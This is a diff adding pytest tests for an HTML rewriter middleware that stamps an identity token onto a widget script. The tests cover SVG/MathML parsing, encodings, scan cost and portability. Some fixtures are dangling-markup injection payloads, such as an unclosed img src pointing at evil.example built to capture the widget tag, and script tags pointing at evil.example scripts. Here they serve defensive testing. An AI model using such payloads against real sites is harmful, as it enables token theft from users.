@@ -2,16 +2,24 @@
 
 from __future__ import annotations
 
+import logging
 import re
+import shutil
+import subprocess
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
 
 import html5lib
 import pytest
+from conftest import IN_CI, ROOT_DIR
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from reqio_middleware import HTMLRewriter, rewrite_html, rewriter
 from reqio_middleware.rewriter import MAX_TAG_BYTES, WidgetSource, explain, find_widget
 
+_C_SCAN_DATA = rewriter._scan_data  # before any test swaps in the pattern
 _SCANNERS = (
     ["c", "pattern"] if rewriter._scan_data is not rewriter._scan_data_pattern else ["pattern"]
 )
@@ -264,7 +272,7 @@ def test_lazy_token_none_leaves_the_page_alone() -> None:
 
 
 def test_invalid_utf8_and_binary_pass_through() -> None:
-    doc = b"\xff\xfe<p>\x80\x00</p>" + W + b"\xc3("
+    doc = b"\xfe\x80<p>\x80\x00</p>" + W + b"\xc3("
     out = rewrite(doc)
     assert unstamped(out) == doc and out.count(STAMP) == 1
 
@@ -466,3 +474,355 @@ def test_last_candidate_search_across_window_boundaries(shift: int, hidden_after
     assert whole == streamed(doc, [4096] * (len(doc) // 4096))
     assert whole.count(STAMP) == 1
     assert without_token_attrs(whole) == without_token_attrs(doc)
+
+
+# --- foreign content (SVG / MathML) and what the tree builder decides -------------------------
+
+WIDGET = b"<script src=https://reqio.app/widget.js></script>"
+EVIL = b"<img src='https://evil.example/i.gif?"
+
+
+def _oracle_allows(out: bytes) -> None:
+    """Every token is on a script element html5lib sees (never in text or another attribute)."""
+    seen, stamped = _widget_scripts_per_html5lib(out)
+    assert stamped <= seen, out
+    assert out.count(TOKEN.encode()) == stamped, out
+
+
+@pytest.mark.parametrize(
+    "shape",
+    [
+        b"<svg><style>%s</style>%s'></svg>",
+        b"<math><style>%s</style>%s'></math>",
+        b"<svg><title>x</title><style>%s</style>%s'></svg>",
+        b"<svg><script>%s</script>%s'></svg>",
+        b"<svg><noscript>%s</noscript>%s'></svg>",
+        b"<svg><xmp>%s</xmp>%s'></svg>",
+        b"<svg><iframe>%s</iframe>%s'></svg>",
+        b"<svg><textarea>%s</textarea>%s'></svg>",
+        b"<svg><noembed>%s</noembed>%s'></svg>",
+        b"<svg><noframes>%s</noframes>%s'></svg>",
+        b"<svg><plaintext>%s</plaintext>%s'></svg>",
+        b"<svg><image href='https://evil.example/i.gif?</style>%s%s'/></svg>",
+        b"<svg><g><style>%s</style>%s'></g></svg>",
+        b"<math><mrow><textarea>%s</textarea>%s'></mrow></math>",
+    ],
+)
+def test_raw_text_tags_in_foreign_content_do_not_hide_an_attribute_value(shape: bytes) -> None:
+    # The issue's leak: a browser sees one <img> whose src holds the "widget tag".
+    doc = shape % (EVIL, WIDGET) if shape.count(b"%s") == 2 else shape % EVIL
+    for out in (rewrite(doc), streamed(doc, [1] * len(doc)), streamed(doc, [7] * len(doc))):
+        assert TOKEN.encode() not in out
+        assert out == doc
+
+
+ICONS = [
+    b'<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M0 0h24v24H0z"/></svg>',
+    b"<svg><title>Close</title><path d='M1 1'></path></svg>",
+    b"<svg><defs><style>.a{fill:red}</style></defs><use href='#i'/></svg>",
+    b'<SVG><G><Circle r="2"/><desc>A dot</desc></G></SVG>',
+    b"<svg/>",
+    b"<svg><a href='#'><text>hi</text></a></svg>",
+    b"<svg><foreignObject><div>html <b>here</b></div></foreignObject></svg>",
+    b"<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
+    b"<svg><![CDATA[ a < b > c ]]></svg>",
+    b"<svg><path/><p>breaks out</p>",
+    b"<select><option>a</option><option selected>b</select>",
+]
+
+
+@pytest.mark.parametrize("icons", [ICONS[i : i + 1] for i in range(len(ICONS))] + [ICONS])
+def test_widget_after_ordinary_inline_svg_gets_its_token(icons: list[bytes]) -> None:
+    doc = b"<body><p>" + b"".join(icons) + b"</p>" + W + b"</body>"
+    out = rewrite(doc)
+    assert out.count(STAMP) == 1, out
+    assert unstamped(out) == doc
+    assert streamed(doc, [1] * len(doc)) == out
+    _oracle_allows(out)
+    r = HTMLRewriter(TOKEN)
+    r.feed(doc)
+    r.close()
+    assert r.missed is None
+
+
+@pytest.mark.parametrize(
+    "doc",
+    [
+        b"<svg>" + W + b"</svg>",
+        b"<math>" + W + b"</math>",
+        b"<svg><foreignObject>" + W + b"</foreignObject></svg>",
+        b"<math><mi>" + W + b"</mi></math>",
+        b"<svg><script href='https://evil.example/x.js' src='https://reqio.app/widget.js'>"
+        b"</script></svg>",
+    ],
+)
+def test_script_in_foreign_content_is_never_stamped(doc: bytes) -> None:
+    assert rewrite(doc) == doc
+    r = HTMLRewriter(TOKEN)
+    assert r.feed(doc) + r.close() == doc
+    assert r.missed == "inside SVG/MathML foreign content"
+
+
+@pytest.mark.parametrize("attr", [b"href", b"xlink:href", b"XLINK:HREF"])
+def test_script_with_href_is_never_stamped(attr: bytes) -> None:
+    doc = b"<script " + attr + b'="https://evil.example/x.js" src="https://reqio.app/widget.js">'
+    assert rewrite(doc) == doc
+    [report] = explain(doc)
+    assert report.reason.startswith("script with href")
+
+
+@pytest.mark.parametrize(
+    ("doc", "stamps"),
+    [
+        # integration points: HTML rules, so these <style> are raw text and hide the widget
+        (b"<svg><foreignObject><style>" + W + b"</style></foreignObject></svg>" + W, 1),
+        (b"<svg><title><style>" + W + b"</style></title></svg>" + W, 1),
+        (b"<svg><desc><style>" + W + b"</style></desc></svg>" + W, 1),
+        (b"<math><mi><style>" + W + b"</style></mi></math>" + W, 1),
+        (b"<math><annotation-xml encoding='Text/HTML'><style>" + W + b"</style>", 0),
+        # not an integration point: the <style> is an element, the img's value holds the tag
+        (b"<math><annotation-xml><style>" + EVIL + WIDGET + b"'></math>", 0),
+        (b"<math><annotation-xml><svg><style>" + EVIL + WIDGET + b"'></math>", 0),
+        (b"<math><mi><mglyph><style>" + EVIL + WIDGET + b"'></math>", 0),
+        # breakouts end foreign content; font only with color/face/size
+        (b"<svg><p><style>" + W + b"</style>" + W, 1),
+        (b"<svg><font color=red><style>" + W + b"</style>" + W, 1),
+        (b"<svg><font><style>" + EVIL + WIDGET + b"'></svg>", 0),
+        (b"<svg><path><div>" + W, 1),
+        # CDATA in foreign content, a bogus comment in HTML
+        (b"<svg><![CDATA[</svg>" + W + b"]]></svg>" + W, 1),
+        (b"<svg><foreignObject><![CDATA[</svg>" + W + b"]]></foreignObject></svg>" + W, 1),
+        (b"<![CDATA[" + W + b"]]>" + W, 1),
+        # self-closing svg opens nothing; nested foreign elements close to their own name
+        (b"<svg/><style>" + W + b"</style>" + W, 1),
+        (b"<svg><g><g></g></g><style>" + EVIL + WIDGET + b"'></svg>", 0),
+        (b"<svg><g></svg><style>" + W + b"</style>" + W, 1),
+    ],
+)
+def test_tree_builder_states(doc: bytes, stamps: int) -> None:
+    out = rewrite(doc)
+    assert out.count(STAMP) == stamps, out
+    assert without_token_attrs(out) == doc
+    assert streamed(doc, [1] * len(doc)) == out
+    _oracle_allows(out)
+
+
+@pytest.mark.parametrize(
+    ("before", "why"),
+    [
+        (b"<frameset>", "<frameset>"),
+        (b"<svg></p>", "</p> in SVG/MathML"),
+        (b"<svg></br>", "</br> in SVG/MathML"),
+        (b"<svg></div>", "</div> that closes no open SVG/MathML element"),
+        (b"<svg><foreignObject><div></span>", "</span> inside an SVG/MathML integration point"),
+        (b"<select><style>", "<style> inside <select>"),
+        (b"<select><svg>", "<svg> inside <select>"),
+        (b"<select><script>", "<script> inside <select>"),
+        (b"<svg><foreignObject><select>", "<select> inside SVG/MathML"),
+        (b"<svg><foreignObject><td>", "<td> inside SVG/MathML"),
+        (b"<svg>" + b"<g>" * 70, "SVG/MathML nested deeper than 64"),
+        (b"<svg><title>x</title><![CDATA[", "<![CDATA[ after an SVG/MathML text element"),
+    ],
+)
+def test_what_the_model_cannot_follow_is_a_logged_miss(before: bytes, why: str) -> None:
+    doc = before + b"</svg></select>" + W + b"<p>rest</p>"
+    assert rewrite(doc) == doc
+    for sizes in ([len(doc)], [1] * len(doc)):
+        r = HTMLRewriter(TOKEN)
+        out = b"".join(r.feed(doc[i : i + sizes[0]]) for i in range(0, len(doc), sizes[0]))
+        assert out + r.close() == doc
+        assert r.missed == f"after markup the rewriter cannot follow with certainty ({why})"
+
+
+def test_no_miss_is_reported_without_a_widget_like_tag() -> None:
+    r = HTMLRewriter(TOKEN)
+    doc = b"<frameset><frame src=a.html></frameset>" + b"x" * 5000
+    assert r.feed(doc) + r.close() == doc
+    assert r.missed is None
+
+
+@pytest.mark.parametrize(
+    ("head", "why"),
+    [
+        (b"\xff\xfe", "UTF-16 byte order mark"),
+        (b"\xfe\xff", "UTF-16 byte order mark"),
+        (b'<meta charset="ISO-2022-JP">', "ISO-2022-JP label in the first 1024 bytes"),
+        (b"<meta http-equiv=content-type content='text/html; charset=csISO2022JP'>", None),
+    ],
+)
+def test_encodings_that_reuse_ascii_bytes_are_never_stamped(head: bytes, why: str | None) -> None:
+    doc = head + b"<p>" + W
+    assert rewrite(doc) == doc
+    for size in (1, 5, 1000, len(doc)):
+        r = HTMLRewriter(TOKEN)
+        out = b"".join(r.feed(doc[i : i + size]) for i in range(0, len(doc), size)) + r.close()
+        assert out == doc
+        assert r.missed == (why or "ISO-2022-JP label in the first 1024 bytes")
+
+
+def test_an_encoding_label_past_the_prescan_does_not_count() -> None:
+    doc = b"<p>" + b"x" * 1100 + b"<!-- iso-2022-jp -->" + W
+    assert rewrite(doc).count(STAMP) == 1
+    assert streamed(doc, [1] * len(doc)).count(STAMP) == 1
+
+
+FOREIGN_PIECES = [
+    *PIECES,
+    W,
+    WIDGET,
+    EVIL,
+    b"<svg>",
+    b"</svg>",
+    b"<svg/>",
+    b"<math>",
+    b"</math>",
+    b"<foreignObject>",
+    b"</foreignObject>",
+    b"<title>",
+    b"<desc>",
+    b"</desc>",
+    b"<mi>",
+    b"</mi>",
+    b"<mglyph>",
+    b"<annotation-xml encoding=text/html>",
+    b"<annotation-xml>",
+    b"</annotation-xml>",
+    b"<![CDATA[",
+    b"]]>",
+    b"<p>",
+    b"</p>",
+    b"<font color=red>",
+    b"<font>",
+    b"<div>",
+    b"</div>",
+    b"<g>",
+    b"</g>",
+    b"<path/>",
+    b"<select>",
+    b"</select>",
+    b"<option>",
+    b"<table>",
+    b"<td>",
+    b"<template>",
+    b"</template>",
+    b"<noscript>",
+    b"</noscript>",
+    b"<b>",
+    b"</b>",
+    b"'>",
+]
+
+
+@st.composite
+def foreign_documents(draw: st.DrawFn) -> bytes:
+    return b"".join(draw(st.lists(st.sampled_from(FOREIGN_PIECES), max_size=40)))
+
+
+@settings(max_examples=500, suppress_health_check=[HealthCheck.too_slow], deadline=None)
+@given(st.data())
+def test_foreign_documents_any_chunking_and_no_token_outside_a_script(
+    data: st.DataObject,
+) -> None:
+    doc = data.draw(foreign_documents())
+    sizes = data.draw(splits(doc))
+    whole = rewrite(doc)
+    assert streamed(doc, sizes) == whole
+    assert without_token_attrs(whole) == without_token_attrs(doc)
+    _oracle_allows(whole)
+
+
+# --- linear time: the bytes the tag scans read, counted -------------------------------------
+
+ADVERSARIAL = {
+    "script-no-gt": b"<script " * 4096,
+    "script-then-gt": b"<script " * 4096 + b">",
+    "quoted-scripts": b'<script a="<script ">' * 1500 + b">",
+    "widget-path-no-gt": b"<script src=/widget.js " * 1500,
+    "escaped-nesting": b"<script><!--<script>" * 1600,
+    "unclosed-quote": b'<div title="' + b"<script src=https://reqio.app/widget.js> " * 800,
+    "unclosed-comment": b"<!--" + b"<script src=https://reqio.app/widget.js> " * 800,
+    "svg-script-no-gt": b"<svg>" + b"<script " * 4096,
+    "widgets": W * 400,
+}
+
+
+@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
+@pytest.mark.parametrize("chunk", [0, 4096, 97])
+def test_tag_scans_read_each_byte_a_bounded_number_of_times(
+    name: str, chunk: int, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Quadratic shapes (a tag end searched again from every '<script', a held tag read again
+    per chunk) show as a count of bytes read that grows with the square of the input."""
+    doc = ADVERSARIAL[name]
+    read = [0]
+
+    def counted(function: Callable[..., int], limit_arg: int | None) -> Callable[..., int]:
+        def wrapper(buf: bytes, pos: int, *args: int) -> int:
+            result = function(buf, pos, *args)
+            limit = args[0] if limit_arg is not None and args and args[0] != -1 else len(buf)
+            read[0] += (result if result >= 0 else limit) - pos
+            return result
+
+        return wrapper
+
+    for attr in ("_tag_end", "_tag_end_pattern"):
+        monkeypatch.setattr(rewriter, attr, counted(getattr(rewriter, attr), 0))
+    monkeypatch.setattr(rewriter, "_tag_states", counted(rewriter._tag_states, None))
+    out = rewrite(doc) if chunk == 0 else streamed(doc, [chunk] * (len(doc) // chunk + 1))
+    assert without_token_attrs(out) == doc
+    assert read[0] <= 4 * len(doc) + 4 * MAX_TAG_BYTES, read[0]
+
+
+# --- portability ------------------------------------------------------------------------------
+
+PY310 = Path("/root/.pyenv/versions/3.10.13/bin/python")
+
+
+def test_the_pure_python_scanner_imports_and_rewrites_on_python_3_10(scanner: str) -> None:
+    """3.10's ``re`` has no possessive quantifiers or atomic groups: the patterns must not
+    use them (the C extension built for this interpreter cannot load there)."""
+    if scanner != "pattern":
+        pytest.skip("one run is enough: it checks the patterns, in a 3.10 subprocess")
+    python = str(PY310) if PY310.exists() else shutil.which("python3.10")
+    if python is None:
+        if IN_CI:
+            pytest.fail("CI=true: Python 3.10 must be installed")
+        pytest.skip("Python 3.10 not installed")
+    code = (
+        "import sys; sys.path.insert(0, sys.argv[1]);"
+        "from reqio_middleware import rewriter as r;"
+        "assert r.SCANNER == 'Python', r.SCANNER;"
+        "doc = b'<svg><style></style></svg><a title=\"<script\">' + sys.argv[2].encode();"
+        "out = r.rewrite_html(doc + b'<script ' * 5000, 'T');"
+        "print(out.count(b'data-identity-token=\"T\"'))"
+    )
+    run = subprocess.run(
+        [python, "-I", "-c", code, str(ROOT_DIR), W.decode()],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        cwd=tempfile.gettempdir(),
+        env={"PYTHONDONTWRITEBYTECODE": "1"},
+    )
+    assert run.returncode == 0, run.stderr
+    assert run.stdout.strip() == "1"
+
+
+def test_missing_c_scanner_warns_once_naming_the_reason(
+    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    monkeypatch.setattr(rewriter, "_MISSING_C", ImportError("no module named _speedups"))
+    monkeypatch.setattr(rewriter, "_warned", False)
+    with caplog.at_level(logging.WARNING, logger="reqio_middleware"):
+        rewrite_html(W, TOKEN)
+        HTMLRewriter(TOKEN)
+    [record] = [r for r in caplog.records if r.name == "reqio_middleware"]
+    assert record.levelno == logging.WARNING
+    assert "no module named _speedups" in record.getMessage()
+    assert "pip install --no-binary reqio-middleware" in record.getMessage()
+
+
+def test_scanner_names_the_one_in_use() -> None:
+    expected = "Python" if rewriter._MISSING_C is not None else "C"
+    assert expected == rewriter.SCANNER
+    assert (rewriter.SCANNER == "C") == (rewriter._scan_data_pattern is not _C_SCAN_DATA)
